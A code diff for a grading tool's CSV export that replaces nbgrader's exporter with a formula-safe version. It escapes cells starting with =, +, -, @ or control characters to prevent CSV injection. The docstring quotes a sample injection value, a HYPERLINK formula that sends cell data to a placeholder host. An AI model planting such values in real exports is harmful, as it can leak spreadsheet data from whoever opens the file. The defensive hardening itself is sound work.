@@ -1,16 +1,72 @@
-"""Export: the gradebook as CSV, written by nbgrader's own CSV exporter (same columns)."""
+"""Export: the gradebook as CSV, in nbgrader's columns, safe to open in a spreadsheet.
+
+nbgrader's own ``CsvExportPlugin`` writes each value as it is, joined by commas. A student id is a
+folder name the student chose: ``=HYPERLINK("http://x/?"&A1)`` or ``@SUM(1+1)`` would run as a
+formula in Excel or LibreOffice (CSV injection), and a comma would shift the columns.
+:class:`SafeCsvExport` writes the same columns and rows through :mod:`csv` (quoted where needed) and
+escapes text cells the OWASP way: one that starts like a formula gets a leading ``'``, which
+spreadsheets show as text; numbers stay numbers. The course's ``nbgrader_config.py`` makes it the
+plugin of ``nbgrader export`` too.
+"""
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 
-__all__ = ["export_csv"]
+from nbgrader.api import Gradebook, MissingEntry
+from nbgrader.plugins import ExportPlugin
+
+__all__ = ["COLUMNS", "SafeCsvExport", "spreadsheet_cell", "export_csv"]
+
+COLUMNS = ["assignment", "duedate", "timestamp", "student_id", "last_name", "first_name", "email",
+           "raw_score", "late_submission_penalty", "score", "max_score"]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")  # OWASP: what makes a cell a formula
+
+
+def spreadsheet_cell(value):
+    """``value`` as a cell no spreadsheet evaluates: text starting like a formula gets a ``'``."""
+    if value is None:
+        return ""
+    if isinstance(value, (int, float)) and not isinstance(value, bool):
+        return value
+    text = str(value)
+    return "'" + text if text.startswith(FORMULA_START) else text
+
+
+class SafeCsvExport(ExportPlugin):
+    """nbgrader's CSV export (same columns, one row per assignment and student), formula-safe."""
+
+    def export(self, gradebook: Gradebook) -> None:
+        with open(self.to or "grades.csv", "w", newline="", encoding="utf-8") as file:
+            writer = csv.writer(file)
+            writer.writerow(COLUMNS)
+            for row in self._rows(gradebook):
+                writer.writerow([spreadsheet_cell(row[column]) for column in COLUMNS])
+
+    def _rows(self, gradebook: Gradebook):
+        """One dict per (assignment, student) chosen; a missing submission scores 0, as in nbgrader."""
+        for assignment in gradebook.assignments:
+            if self.assignment and assignment.name not in self.assignment:
+                continue
+            for student in gradebook.students:
+                if self.student and student.id not in self.student:
+                    continue
+                row = {"assignment": assignment.name, "duedate": assignment.duedate, "student_id": student.id,
+                       "last_name": student.last_name, "first_name": student.first_name,
+                       "email": student.email, "max_score": assignment.max_score}
+                try:
+                    submission = gradebook.find_submission(assignment.name, student.id)
+                except MissingEntry:
+                    row.update(timestamp=None, raw_score=0.0, late_submission_penalty=0.0, score=0.0)
+                else:
+                    penalty = submission.late_submission_penalty or 0.0
+                    row.update(timestamp=submission.timestamp, raw_score=submission.score,
+                               late_submission_penalty=penalty, score=max(0.0, submission.score - penalty))
+                yield row
 
 
 def export_csv(root: Path, to: Path | None = None) -> Path:
     """Write ``assignment,duedate,timestamp,student_id,...,score,max_score`` rows; return the path."""
-    from nbgrader.api import Gradebook
-    from nbgrader.plugins import CsvExportPlugin
-
     from .config import load_config, nbgrader_api
 
     root = root.resolve()
@@ -18,5 +74,5 @@ def export_csv(root: Path, to: Path | None = None) -> Path:
     target.parent.mkdir(parents=True, exist_ok=True)
     api = nbgrader_api(root)
     with Gradebook(api.coursedir.db_url, load_config(root).CourseDirectory.course_id) as gb:
-        CsvExportPlugin(to=str(target)).export(gb)
+        SafeCsvExport(to=str(target)).export(gb)
     return target
